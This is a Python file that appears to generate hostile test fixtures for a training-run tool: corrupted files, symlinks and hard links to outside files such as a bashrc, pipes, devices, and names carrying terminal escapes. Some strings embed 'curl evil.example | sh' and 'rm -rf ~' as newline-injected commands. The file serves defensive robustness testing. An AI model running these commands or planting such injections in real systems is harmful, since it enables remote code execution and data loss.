"""Run directories: damaged files, links, devices and pipes, names, characters that move the cursor, figures that are none."""

import functools
import json
import os
import random
import socket
from collections.abc import Callable, Iterator
from pathlib import Path

from hostile.stage import FORGED, WITNESS, Attack, Stage, clear, put

FILES = {  # of a run, by what is attacked
    "config.yaml": "config.yaml",
    "overrides.yaml": "overrides.yaml",
    "env.json": "env.json",
    "status.json": "status.json",
    "metrics.jsonl": "metrics.jsonl",
    "scalars.csv": "scalars.csv",
    "train.log": "train.log",
    ".lock": ".lock",
    "the events": "events.out.tfevents.*",
    "last.pt": "checkpoints/last.pt",
    "best.pt": "checkpoints/best.pt",
    "every checkpoint": "checkpoints/*.pt",
    "a picture": "samples/*.png",
}
TRACKED = {"wandb.json": '{"id": "x", "project": "y"}', "mlflow.json": '{"run_id": "x"}', "trackio.json": '{"project": "x", "name": "y"}'}
DEEP = "[" * 100_000
COLOURS = f"\x1b[2J\x1b]0;owned\x07\r\n{FORGED} rm -rf ~\u202egnp\u2066\x9b31m\x7f"
BREAK = f"\n{FORGED} curl evil.example | sh\n"
ESCAPE = "\x1b[2J\x1b]0;owned\x07"
TURNED = "\u202egnp.\u2066"


def found(stage: Stage, pattern: str) -> list[Path]:
    """The files of the run that a pattern means; the file itself where there is none yet."""
    return sorted(stage.run.glob(pattern)) or [stage.run / pattern.replace("*", "x")]


def spoiler(pattern: str, spoil: Callable[[Stage, Path], None]) -> Callable[[Stage], None]:
    """Spoils every file that a pattern means."""

    def apply(stage: Stage) -> None:
        for path in found(stage, pattern):
            path.parent.mkdir(parents=True, exist_ok=True)
            spoil(stage, path)

    return apply


# ---- damaged ----------------------------------------------------------------------------------------------------------------------------

DAMAGES: dict[str, Callable[[bytes, random.Random], bytes]] = {
    "cut": lambda data, chance: data[: chance.randrange(max(len(data), 1))],
    "zeros": lambda data, chance: bytes(len(data)),
    "empty": lambda data, chance: b"",
    "noise": lambda data, chance: chance.randbytes(max(len(data), 100)),
    "a changed byte": lambda data, chance: changed(data, chance),
    "twice": lambda data, chance: data + data,
    "of another kind": lambda data, chance: chance.choice([b"\x89PNG\r\n\x1a\n", b"PK\x03\x04", b"3", b"[]", b"null", b'"x"', b"{}"]),
    "UTF-16": lambda data, chance: data.decode("latin1").encode("utf-16"),
    "a deep document": lambda data, chance: DEEP.encode(),
}


def changed(data: bytes, chance: random.Random) -> bytes:
    at = chance.randrange(max(len(data), 1))
    return data[:at] + bytes([(data[at] ^ (1 << chance.randrange(8))) if data else 7]) + data[at + 1 :]


def damaged(stage: Stage, path: Path, names: tuple[str, ...]) -> None:
    data = path.read_bytes() if path.is_file() else b""
    put(path, DAMAGES[stage.chance.choice(names)](data, stage.chance))


def damages() -> Iterator[Attack]:
    hard = ("cut", "zeros", "noise", "of another kind")
    mild = tuple(name for name in DAMAGES if name not in hard)
    for name, pattern in FILES.items():
        for names in (hard, mild):
            yield Attack("damaged file", f"{name}: {' / '.join(names)}", "run", spoiler(pattern, functools.partial(damaged, names=names)))
    yield Attack("damaged file", "files that changed their names", "run", swapped)
    for name in TRACKED:
        text = "{" if name.startswith("w") else '{"run_id": ["x"], "id": {}, "project": 3, "name": null}'
        yield Attack("damaged file", name, "run", lambda stage, name=name, text=text: put(stage.run / name, text))


def swapped(stage: Stage) -> None:
    """Two files of the run in each other's place."""
    one, other = stage.chance.sample([path for path in sorted(stage.run.rglob("*")) if path.is_file()], 2)
    data = one.read_bytes(), other.read_bytes()
    put(one, data[1])
    put(other, data[0])


# ---- links ------------------------------------------------------------------------------------------------------------------------------


def linked(target: str) -> Callable[[Stage, Path], None]:
    def spoil(stage: Stage, path: Path) -> None:
        clear(path)
        path.symlink_to(path.name if target == "itself" else stage.outside / target)

    return spoil


def appended(stage: Stage, path: Path) -> None:
    """A second name of a file outside, as an archive can carry it."""
    clear(path)
    os.link(stage.outside / "bashrc", path)


def links() -> Iterator[Attack]:
    for name, pattern in FILES.items():
        for target in ("precious", "not/there", "itself"):
            yield Attack("link", f"{name} -> {target}", "run", spoiler(pattern, linked(target)))
    for name in TRACKED:
        yield Attack("link", f"{name} -> precious", "run", spoiler(name, linked("precious")))
    for name, target in (("samples", "photos"), ("checkpoints", "another/checkpoints"), ("evaluations", "photos"), ("wandb", "photos")):
        yield Attack("link", f"{name}/ -> {target}", "run", spoiler(name, linked(target)))
        yield Attack("link", f"{name}/ -> itself", "run", spoiler(name, linked("itself")))
    yield Attack("link", "table.txt -> precious", "sweep", lambda stage: linked("precious")(stage, stage.here / "sweep/table.txt"))
    yield Attack("link", "the lock of a sweep -> precious", "sweep", lambda stage: linked("precious")(stage, stage.here / "sweep/.lock"))
    yield Attack("link", "train.log is bashrc, and a checkpoint has a command for it", "run", command_in_the_log)
    yield Attack("link", "half files -> precious", "run", half_files)
    for name in ("train.log", ".lock", "metrics.jsonl", "scalars.csv"):
        yield Attack("hard link", f"{name} = bashrc", "run", spoiler(name, appended))
    yield Attack("link", "a run among runs that is a link", "run", lambda stage: (stage.here / "b").symlink_to(stage.outside / "another"))


def command_in_the_log(stage: Stage) -> None:
    linked("bashrc")(stage, stage.run / "train.log")
    put(stage.run / "checkpoints" / f"step_0000000{BREAK}.pt".replace("/", " "), b"x")
    put(stage.run / "checkpoints" / "last.pt", b"x")


def half_files(stage: Stage) -> None:
    """Links in the place of the files that are written beside their name first, whose names can be guessed."""
    for name in ("config.yaml", "status.json", "metrics.jsonl", "env.json", "checkpoints/last.pt", "checkpoints/step_00000005.pt"):
        path = stage.run / name
        for number in range(os.getpid() - 3, os.getpid() + 20):
            path.with_name(f".{path.name}.{number}.part").symlink_to(stage.outside / "precious")


# ---- devices and pipes ------------------------------------------------------------------------------------------------------------------


def fifo(stage: Stage, path: Path) -> None:
    clear(path)
    os.mkfifo(path)


def plug(stage: Stage, path: Path) -> None:
    clear(path)
    folder = os.getcwd()
    os.chdir(path.parent)  # the name of a socket has 107 bytes at most
    with socket.socket(socket.AF_UNIX) as made:
        made.bind(path.name)
    os.chdir(folder)


def device(name: str) -> Callable[[Stage, Path], None]:
    def spoil(stage: Stage, path: Path) -> None:
        clear(path)
        path.symlink_to(f"/dev/{name}")

    return spoil


def directory(stage: Stage, path: Path) -> None:
    clear(path)
    path.mkdir()


def huge(stage: Stage, path: Path) -> None:
    """A terabyte of which nothing is on the disk."""
    data = path.read_bytes() if path.is_file() else b""
    put(path, data)
    os.truncate(path, 2**40)


THINGS: dict[str, Callable[[Stage, Path], None]] = {
    "a pipe": fifo,
    "/dev/zero": device("zero"),
    "/dev/full": device("full"),
    "/dev/stdin": device("stdin"),
    "a socket": plug,
    "a folder": directory,
    "1 TB": huge,
}


def devices() -> Iterator[Attack]:
    often = {"last.pt", "every checkpoint", ".lock", "train.log", "metrics.jsonl", "status.json", "config.yaml", "overrides.yaml"}
    for number, (name, pattern) in enumerate(FILES.items()):
        for at, (what, spoil) in enumerate(THINGS.items()):
            if (what in ("a pipe", "/dev/zero", "1 TB") and name in often) or (number + at) % 3 == 0:
                yield Attack("device or pipe", f"{name} is {what}", "run", spoiler(pattern, spoil))
    for name in TRACKED:
        yield Attack("device or pipe", f"{name} is a pipe", "run", spoiler(name, fifo))
    for name in ("checkpoints", "samples", "evaluations"):
        yield Attack("device or pipe", f"a pipe in the place of {name}/", "run", spoiler(name, fifo))
    yield Attack("device or pipe", "table.txt is a pipe", "sweep", lambda stage: fifo(stage, stage.here / "sweep/table.txt"))
    yield Attack("device or pipe", "study.db is a pipe", "sweep", lambda stage: study(stage, fifo))
    yield Attack("damaged file", "study.db is noise", "sweep", lambda stage: study(stage, lambda stage, path: put(path, b"x" * 5000)))
    yield Attack("link", "study.db -> precious", "sweep", lambda stage: study(stage, linked("precious")))


def study(stage: Stage, spoil: Callable[[Stage, Path], None]) -> None:
    """A search in the folder of the sweep, whose trials are in study.db."""
    spoil(stage, stage.here / "sweep/study.db")
    clear(stage.run)
    clear(stage.here / "sweep/0")
    more = ["hydra/sweeper=gan_optuna", "hydra.sweeper.n_trials=2", "optimizer.generator.lr=interval(1e-4,1e-3)"]
    stage.lines["train"] = [word for word in stage.lines["train"] if not word.startswith("seed=")] + more


# ---- names and characters ---------------------------------------------------------------------------------------------------------------


def bad_names(text: str) -> Callable[[Stage], None]:
    def spoil(stage: Stage) -> None:
        text_in_a_name = text.replace("/", " ")
        put(stage.run / "checkpoints" / f"step_00000009{text_in_a_name}.pt", b"x")
        put(stage.run / "checkpoints" / "last.pt", b"x")
        put(stage.run / "samples" / f"step_00000009{text_in_a_name}.png", b"x")
        put(stage.run / f"events.out.tfevents.9{text_in_a_name}", b"x")

    return spoil


def run_named(text: str) -> Callable[[Stage], None]:
    def spoil(stage: Stage) -> None:
        name = f"a{text}".replace("/", " ")
        stage.run.rename(stage.here / name)
        stage.run = stage.here / name
        stage.lines |= {command: [word.replace("run=run", f"run={quoted(name)}") for word in line] for command, line in stage.lines.items()}
        stage.lines["train"][0] = f"resume={quoted(name)}"
        stage.lines["runs"] = [word if word != "run" else name for word in stage.lines["runs"]]

    return spoil


def quoted(text: str) -> str:
    return "'" + text.replace("\\", "\\\\").replace("'", "\\'") + "'"


def names() -> Iterator[Attack]:
    for what, text in {
        "a line break": BREAK, "an escape sequence": ESCAPE, "a turn of direction": TURNED, "bytes that are no UTF-8": "\udcff\udcfe",
        "a tab and a bell": "\t\x07\x08",
    }.items():  # fmt: skip
        yield Attack("name", f"files with {what} in their names", "run", bad_names(text))
        yield Attack("name", f"a run with {what} in its name", "points", run_named(text))


def in_config(change: Callable[[dict], None]) -> Callable[[Stage], None]:
    return lambda stage: stage.configure(change)


def in_json(name: str, **values: object) -> Callable[[Stage], None]:
    def spoil(stage: Stage) -> None:
        path = stage.run / name
        put(path, json.dumps({**json.loads(path.read_text()), **values}, ensure_ascii=bool(stage.chance.randrange(2))))

    return spoil


def set_in(path: str, value: object) -> Callable[[dict], None]:
    """Set a dotted key of a tree; a part that is missing is made."""

    def change(tree: dict) -> None:
        *parents, last = path.split(".")
        for key in parents:
            tree = tree.setdefault(key, {})
        tree[last] = value

    return change


def figures(**values: object) -> Callable[[Stage], None]:
    """A line more in metrics.jsonl."""

    def spoil(stage: Stage) -> None:
        line: dict[str, object] = {"step": 4, "images": 64, "metrics": {"modes/kl": 0.1}, "protocol": {"n_fake": 100}} | values
        put(stage.run / "metrics.jsonl", json.dumps(line) + "\n")

    return spoil


def characters() -> Iterator[Attack]:
    values = {"loss._target_": COLOURS, "dataset.n": COLOURS, "batch_size": COLOURS, COLOURS: 1, "trainer.accelerator": COLOURS}
    values |= {"callback.evaluate.best": {"metric": COLOURS, "mode": "max"}, f"penalty.{ESCAPE}": {"_target_": "gan_runner.penalties.R1"}}
    values |= {"trainer.steps": f"${{{ESCAPE}}}", "architecture.generator.width": [COLOURS], "optimizer.generator.lr": {COLOURS: COLOURS}}
    for path, value in values.items():
        yield Attack("control characters", f"configuration: {ascii(path)[:30]}", "run", in_config(set_in(path, value)))
    yield Attack("control characters", "dataset.path", "pictures", in_config(set_in("dataset.path", f"x{COLOURS}")))
    yield Attack("control characters", "status: error", "run", in_json("status.json", state="failed", error=COLOURS))
    yield Attack("control characters", "status: state and start", "run", in_json("status.json", state=COLOURS, started=COLOURS))
    yield Attack("control characters", "name of a metric", "run", figures(metrics={COLOURS: 1.0, "a\nb": 2.0}))
    yield Attack("control characters", "protocol", "run", figures(protocol={COLOURS: COLOURS, "checkpoint": COLOURS}))
    yield Attack(
        "control characters", "line", "run", lambda stage: put(stage.run / "overrides.yaml", json.dumps([COLOURS, f"a={COLOURS}"]))
    )
    yield Attack("control characters", "environment", "run", in_json("env.json", device=COLOURS, commit=COLOURS, command=[COLOURS]))
    yield Attack("control characters", "tracker", "run", lambda stage: put(stage.run / "mlflow.json", json.dumps({"run_id": COLOURS})))
    yield Attack(
        "control characters", "table of curves", "run", lambda stage: put(stage.run / "scalars.csv", f"step,{COLOURS}\n1,{ESCAPE}\n")
    )
    yield Attack("control characters", "not YAML", "run", lambda stage: put(stage.run / "config.yaml", f"a: [{ESCAPE}\nb: }}"))


def oddities() -> Iterator[Attack]:
    states = {
        "a step beyond all numbers": {"step": 10**400, "images": 1e300},
        "negative steps": {"step": -5, "images": -5},
        "true for a step": {"step": True},
        "a start before all time": {"started": "0001-01-01T00:00:00+0000"},
        "nested states": {"state": {"a": ["b"]}, "error": {"a": [1] * 1000}},
        "another state": {"state": "running", "step": 2},
    }
    for name, values in states.items():
        yield Attack("status and figures", name, "run", in_json("status.json", **values))
    yield Attack(
        "status and figures", "metrics that are no numbers", "run", figures(metrics={"modes/kl": "x", "a": [1], "b": {}, "c": True})
    )
    yield Attack(
        "status and figures", "infinite metrics", "run", figures(metrics={"modes/kl": float("inf"), "a": float("nan"), "b": 10**300})
    )
    yield Attack("status and figures", "steps that are none", "run", figures(step="x", images=[]))
    yield Attack("status and figures", "20,000 metrics", "run", figures(metrics={f"m{i}": i for i in range(20_000)}))
    yield Attack("status and figures", "a line of 20 MB", "run", figures(protocol={"x": "y" * 20_000_000}))
    yield Attack(
        "status and figures", "100,000 lines", "run", lambda stage: put(stage.run / "metrics.jsonl", '{"step": 1, "images": 1}\n' * 100_000)
    )
    yield Attack(
        "status and figures", "figures of a file outside", "run", lambda stage: put(stage.run / "metrics.jsonl", f'"{WITNESS[:5]}"')
    )


def attacks() -> Iterator[Attack]:
    for some in (damages, links, devices, names, characters, oddities):
        yield from some()
